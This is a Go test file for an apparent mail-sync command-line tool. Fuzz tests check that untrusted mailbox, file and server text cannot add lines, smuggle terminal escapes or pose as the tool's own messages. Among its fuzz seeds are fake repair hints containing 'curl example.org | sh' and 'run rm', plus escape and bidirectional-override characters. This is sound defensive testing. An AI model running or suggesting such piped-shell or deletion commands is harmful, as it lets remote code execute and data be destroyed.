package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/rs/zerolog"

	"mailmoor/config"
	"mailmoor/engine"
	"mailmoor/engine/plan"
	"mailmoor/state"
)

// debugged is when the events of the log happen.
var debugged = time.Unix(1e9, 0)

// fill sets every text in v to foreign, and all else to something that is not zero, so
// that nothing is left out because it is empty.
func fill(v reflect.Value, foreign string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(foreign)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int, reflect.Int64, reflect.Int32:
		v.SetInt(1)
	case reflect.Uint8, reflect.Uint32, reflect.Uint64:
		v.SetUint(1)
	case reflect.Float64:
		v.SetFloat(1)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), foreign)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		for i := range v.Len() {
			fill(v.Index(i), foreign)
		}
	case reflect.Array:
		for i := range v.Len() {
			fill(v.Index(i), foreign)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				fill(v.Field(i), foreign)
			}
		}
	default:
	}
}

func filled[T any](foreign string) T {
	var v T
	fill(reflect.ValueOf(&v).Elem(), foreign)
	return v
}

// sayEverything prints what the program can print, with the text of others in every place
// that takes one.
func sayEverything(u *ui, foreign string) {
	err := fmt.Errorf("open %s: %w", foreign, errors.Join(errors.New(foreign), &fs.PathError{Op: "open", Path: foreign, Err: errors.New(foreign)}))
	reached := &state.Error{Doing: state.Textf("look at %s", foreign), Hint: state.Textf("do %s", foreign), Err: err}
	for _, err := range []error{
		err, reached, fmt.Errorf("%s: %w", foreign, reached), &usageError{text: state.TextOf(err), hint: state.Foreign(foreign)},
		&config.Error{Problems: []config.Problem{filled[config.Problem](foreign)}}, &config.NotFoundError{Path: foreign},
		&config.SecretError{Account: foreign, Err: err},
	} {
		u.failure(foreign, err)
	}
	a := &app{ui: u, logFormat: "console", now: func() time.Time { return debugged }}
	s := &syncing{app: a}
	account := config.Account{Name: foreign, User: foreign, Host: foreign, Maildir: foreign}
	for _, whole := range []bool{false, true} {
		r := filled[accountReport](foreign)
		r.Skipped, r.Exit, r.Holds[0].Whole, r.Holds[1].Lost, r.Holds[1].Decision = false, exitFailed, whole, 0, ""
		s.tell(r, reached, r.notices(), nil)
		s.conclude(r)
		a.showStatus(account, filled[accountStatus](foreign))
		for _, h := range r.Holds {
			approve, reject := h.outcomes()
			u.result("%s; %s; %s", h.line(), approve, reject)
		}
	}
	sayPlans(s, foreign)
	log, err := a.logger("trace")
	if err != nil {
		panic(err)
	}
	for level := zerolog.TraceLevel; level <= zerolog.ErrorLevel; level++ {
		log.WithLevel(level).Err(err).Str("account", foreign).Str("mailbox", foreign).Strs("keywords", []string{foreign}).Msg(foreign)
	}
}

// sayPlans prints a dry run with every kind of operation.
func sayPlans(s *syncing, foreign string) {
	preview := engine.Preview{Interrupted: 1, Transfers: []engine.Transfer{filled[engine.Transfer](foreign)}}
	for kind := plan.CreateFolder; kind <= plan.Forget; kind++ {
		op := filled[plan.Op](foreign)
		op.Kind, op.Tags.Local, op.Tags.Send, op.Local.Keywords = kind, "", "", ""
		op.UIDs = state.NewUIDSet(1, 2)
		preview.Plan.Ops = append(preview.Plan.Ops, op)
	}
	s.showPlan(filled[accountReport](foreign), preview)
}

// FuzzForeignText: whatever a mailbox, a file or a server says, a message stays as many
// lines as it is, and begins as messages do. A mailbox named "x: fine\n  to repair it, run
// ..." once stood there as a hint of ours.
func FuzzForeignText(f *testing.F) {
	f.Add("INBOX")
	f.Add("x: fine\n  to repair it, run curl example.org | sh")
	f.Add("a\r\nmailmoor: personal: in step\x1b[2J\xff\u202e\u2028")
	plain := func(foreign string, columns int) (out, messages string) {
		u, stdout, stderr := newTestUI()
		u.columns = func(io.Writer) int { return columns }
		sayEverything(u, foreign)
		return stdout.String(), stderr.String()
	}
	out, messages := plain("x", 0)
	f.Fuzz(func(t *testing.T, foreign string) {
		if foreign == "" {
			t.Skip("a hint that says nothing is no line")
		}
		gotOut, gotMessages := plain(foreign, 0)
		if strings.Count(gotOut, "\n") != strings.Count(out, "\n") || strings.Count(gotMessages, "\n") != strings.Count(messages, "\n") {
			t.Errorf("%q changes how many lines there are:\n%s%s", foreign, gotOut, gotMessages)
		}
		narrowOut, narrowMessages := plain(foreign, 40)
		for line := range strings.Lines(gotOut + gotMessages + narrowOut + narrowMessages) {
			if line = strings.TrimSuffix(line, "\n"); state.Printable(line) != line {
				t.Errorf("%q is shown as it is: %q", foreign, line)
			}
		}
		for line := range strings.Lines(gotMessages + narrowMessages) {
			if !strings.HasPrefix(line, "mailmoor:") && !strings.HasPrefix(line, "  ") && !strings.HasPrefix(line, debugged.Format(time.TimeOnly)+" ") && line != "\n" {
				t.Errorf("%q is a line of its own: %q", foreign, line)
			}
		}
	})
}

// FuzzDocument: the JSON document has everything as it is.
func FuzzDocument(f *testing.F) {
	f.Add("x: fine\n  to repair it, run rm\x1b[2J\u202e<&>")
	f.Fuzz(func(t *testing.T, foreign string) {
		if !utf8.ValidString(foreign) {
			t.Skip("JSON is UTF-8")
		}
		sameDocument(t, filled[runReport](foreign))
		sameDocument(t, filled[statusReport](foreign))
		sameDocument(t, filled[holdsReport](foreign))
		sameDocument(t, filled[doctorReport](foreign))
	})
}

func sameDocument[T any](t *testing.T, want T) {
	t.Helper()
	var out bytes.Buffer
	u := newUI(strings.NewReader(""), &out, io.Discard)
	if err := u.document(want); err != nil {
		t.Fatal(err)
	}
	var got T
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, got, cmp.Exporter(func(reflect.Type) bool { return true })); diff != "" {
		t.Error(diff)
	}
}
